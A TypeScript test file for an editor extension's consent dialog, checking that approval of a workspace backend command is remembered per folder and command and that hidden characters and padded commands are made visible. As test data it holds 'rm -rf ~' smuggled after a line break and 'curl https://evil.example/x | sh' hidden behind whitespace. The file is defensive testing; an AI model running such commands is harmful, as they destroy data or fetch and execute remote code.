import * as assert from 'node:assert/strict';
import { printable } from '../../../src/core/report';
import { BackendConsent, visibleCommand, type AnswerStore } from '../../../src/extension/backend/backendConsent';

/** A Memento in memory. */
function memento(): AnswerStore & { data: Map<string, unknown> } {
  const data = new Map<string, unknown>();
  return {
    data,
    get: <T>(key: string) => data.get(key) as T | undefined,
    update: (key: string, value: unknown) => {
      if (value === undefined) data.delete(key);
      else data.set(key, value);
      return Promise.resolve();
    },
  };
}

describe("consent to a workspace's backend command", () => {
  it('asks once per folder and command, remembers yes and no, and asks again for a changed command', async () => {
    const asked: string[] = [];
    let answer: 'run' | 'refuse' | undefined = 'run';
    const consent = new BackendConsent(memento(), async (folder, command) => {
      asked.push(`${folder}: ${command}`);
      return answer;
    });
    assert.equal(await consent.allows('file:///a', 'a', 'php -S 127.0.0.1:{port}'), true);
    assert.equal(await consent.allows('file:///a', 'a', 'php -S 127.0.0.1:{port}'), true);
    assert.deepEqual(asked, ['a: php -S 127.0.0.1:{port}'], 'remembered');
    answer = 'refuse';
    assert.equal(
      await consent.allows('file:///a', 'a', 'php -S 127.0.0.1:{port} -t public'),
      false,
      'a changed command is a new question',
    );
    assert.equal(await consent.allows('file:///a', 'a', 'php -S 127.0.0.1:{port} -t public'), false);
    assert.equal(
      await consent.allows('file:///b', 'b', 'php -S 127.0.0.1:{port}'),
      false,
      'another folder is asked for itself',
    );
    assert.equal(asked.length, 3);
  });

  it('a dismissed question is not an answer: it runs nothing and asks again next time', async () => {
    let asked = 0;
    const consent = new BackendConsent(memento(), async () => {
      asked++;
      return asked === 1 ? undefined : 'run';
    });
    assert.equal(await consent.allows('file:///a', 'a', 'x'), false);
    assert.equal(await consent.allows('file:///a', 'a', 'x'), true);
    assert.equal(asked, 2);
  });

  it('two starts at once ask one question; forget() asks everything again', async () => {
    let asked = 0;
    let answer: (a: 'run') => void = () => undefined;
    const store = memento();
    const consent = new BackendConsent(store, () => {
      asked++;
      return new Promise((resolve) => {
        answer = resolve;
      });
    });
    const both = Promise.all([consent.allows('file:///a', 'a', 'x'), consent.allows('file:///a', 'a', 'x')]);
    answer('run');
    assert.deepEqual(await both, [true, true]);
    assert.equal(asked, 1);
    await consent.forget();
    assert.equal(store.data.size, 0);
    const again = consent.allows('file:///a', 'a', 'x');
    answer('run');
    await again;
    assert.equal(asked, 2);
  });
});

describe('the backend command as the consent dialog shows it', () => {
  const escape = (t: string) => printable(t);

  it('makes control characters, line breaks and bidi overrides visible', () => {
    assert.equal(
      visibleCommand('php -S 127.0.0.1:{port}\nrm -rf ~\r\u202e', escape),
      'php -S 127.0.0.1:{port}\\x0arm -rf ~\\x0d\\u202e',
    );
    assert.equal(visibleCommand('a\u001b[8mhidden\u001b[0m', escape), 'a\\x1b[8mhidden\\x1b[0m');
  });

  it('shows a long command whole, in lines no dialog cuts, and counts a run of spaces instead of showing it', () => {
    const hidden = `php -S 127.0.0.1:{port}${' '.repeat(300)}; curl https://evil.example/x | sh`;
    const shown = visibleCommand(hidden, escape);
    assert.match(shown, /php -S 127\.0\.0\.1:\{port\} \[300 spaces\] ; curl https:\/\/evil\.example\/x \| sh/);
    const long = `node -e "${'x'.repeat(500)}" && curl https://evil.example | sh`;
    const lines = visibleCommand(long, escape).split('\n');
    assert.ok(
      lines.every((l) => l.length <= 80),
      'no line longer than 80',
    );
    assert.equal(lines.at(-1), `(${long.length} characters)`);
    assert.equal(lines.slice(0, -1).join('').replace(/ /g, ''), long.replace(/ /g, ''), 'every character is there');
  });
});
